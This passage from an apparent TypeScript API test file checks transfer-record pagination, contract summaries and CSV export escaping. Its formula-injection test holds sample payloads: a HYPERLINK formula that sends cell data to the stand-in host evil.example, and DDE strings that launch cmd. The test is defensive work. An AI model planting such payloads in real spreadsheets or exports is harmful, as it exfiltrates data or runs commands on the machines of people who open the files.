      .get(`/transfers?contractId=${contractA}&limit=20&cursor=${cursor}`)
      .set(...bearer(p.gdCac))
      .expect(200);
    expect((second.body.items as TransferView[]).every((i) => i.contractId === contractA)).toBe(true);
    await expectCursorRefused(`/transfers?contractId=${contractB}&limit=10&cursor=${cursor}`, p.gdCac);
    await expectCursorRefused(`/transfers?limit=10&cursor=${cursor}`, p.gdCac);
    await expectCursorRefused(`/transfers?contractId=${contractA}&flagged=true&limit=10&cursor=${cursor}`, p.gdCac);

    const contracts = await t.http
      .get('/contracts?limit=1')
      .set(...bearer(t.adminToken))
      .expect(200);
    const contractsCursor = contracts.body.nextCursor as string;
    expect((await t.http.get(`/contracts?limit=1&cursor=${contractsCursor}`).set(...bearer(t.adminToken))).status).toBe(200);
    await expectCursorRefused(`/contracts?limit=1&contractStatus=EFFECTIVE&cursor=${contractsCursor}`, t.adminToken);
    // The same key shape (an instant and a uuid) on another list.
    await expectCursorRefused(`/organisations?limit=1&cursor=${contractsCursor}`, t.adminToken);
    await expectCursorRefused(`/rollout/enrolments?limit=1&cursor=${contractsCursor}`, t.adminToken);

    const history = await t.http
      .get(`/contracts/${contractA}/history?limit=1`)
      .set(...bearer(p.mainland))
      .expect(200);
    await expectCursorRefused(`/contracts/${contractB}/history?limit=1&cursor=${history.body.nextCursor}`, p.mainland);
  });

  it('summarises a contract: totals, flag counts, first and last transfer', async () => {
    const res = await t.http.get(`/transfers/summary?contractId=${contractA}`).set(...bearer(p.hongKong));
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({
      contractId: contractA,
      transfers: N / 2,
      dataSubjects: 120 * (N / 2),
      records: 480 * (N / 2),
      flaggedTransfers: N / 10,
      flags: { PURPOSE_NOT_IN_SCOPE: N / 10 },
      firstTransfer: { occurredAt: '2025-01-25T00:00:00.000Z' },
      lastTransfer: { occurredAt: new Date(Date.UTC(2025, 0, 25, 0, N - 2)).toISOString() },
    });
    expect((await t.http.get(`/transfers/summary?contractId=${contractA}`).set(...bearer(p.outsider))).status).toBe(404);
  });
});

describe('GET /transfers/export?format=csv: spreadsheet formula injection (OWASP)', () => {
  let t: TestApp;
  let p: Parties;
  let contractId: string;
  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];

  beforeAll(async () => {
    ({ t, p, contractId } = await startWithContract());
    const records = hostile.map((text, i) =>
      transferRecord(contractId, {
        occurredAt: new Date(Date.UTC(2025, 0, 25, 0, i)).toISOString(),
        externalReference: text,
        transferMethod: text,
        purposes: [text],
        onwardRecipient: { name: text, city: 'GUANGZHOU' },
      }),
    );
    records.push(transferRecord(contractId, { externalReference: 'plain, "quoted"\nnext line', occurredAt: '2025-01-25T01:00:00Z' }));
    expect((await postTransfers(t, p.mainland, records)).status).toBe(201);
  });
  afterAll(async () => t?.close());

  it('prefixes a cell of organisation text starting with =, +, -, @, tab or CR with a single quote', async () => {
    const res = await t.http
      .get(`/transfers/export?format=csv&contractId=${contractId}`)
      .set(...bearer(p.gdCac))
      .buffer(true);
    expect(res.status).toBe(200);
    const [header, ...rows] = parseCsv(res.text);
    const col = (name: string) => header.indexOf(name);
    expect(rows).toHaveLength(hostile.length + 1);
    hostile.forEach((text, i) => {
      const row = rows[i];
      expect(row[col('externalReference')]).toBe(`'${text}`);
      expect(row[col('transferMethod')]).toBe(`'${text}`);
      expect(row[col('onwardRecipientName')]).toBe(`'${text}`);
      // purposes is the list joined with '; ': its first purpose is guarded too.
      expect(row[col('purposes')]).toBe(`'${text}`);
    });
    // Ordinary text is unchanged; commas, quotes and newlines are quoted (RFC 4180).
    expect(rows[hostile.length][col('externalReference')]).toBe('plain, "quoted"\nnext line');
    expect(rows[hostile.length][col('transferMethod')]).toBe('encrypted API over dedicated line');
    // No cell of the export starts with a formula character.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps the exact text in the ndjson export and the leaves', async () => {
    const res = await t.http.get(`/transfers/export?format=ndjson&contractId=${contractId}`).set(...bearer(p.gdCac));
    expect(res.status).toBe(200);
    const rows = res.text
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(rows.slice(0, hostile.length).map((r) => r.externalReference)).toEqual(hostile);
    expect(rows.slice(0, hostile.length).map((r) => JSON.parse(Buffer.from(r.leaf, 'base64').toString('utf8')).transferMethod)).toEqual(hostile);
  });
});
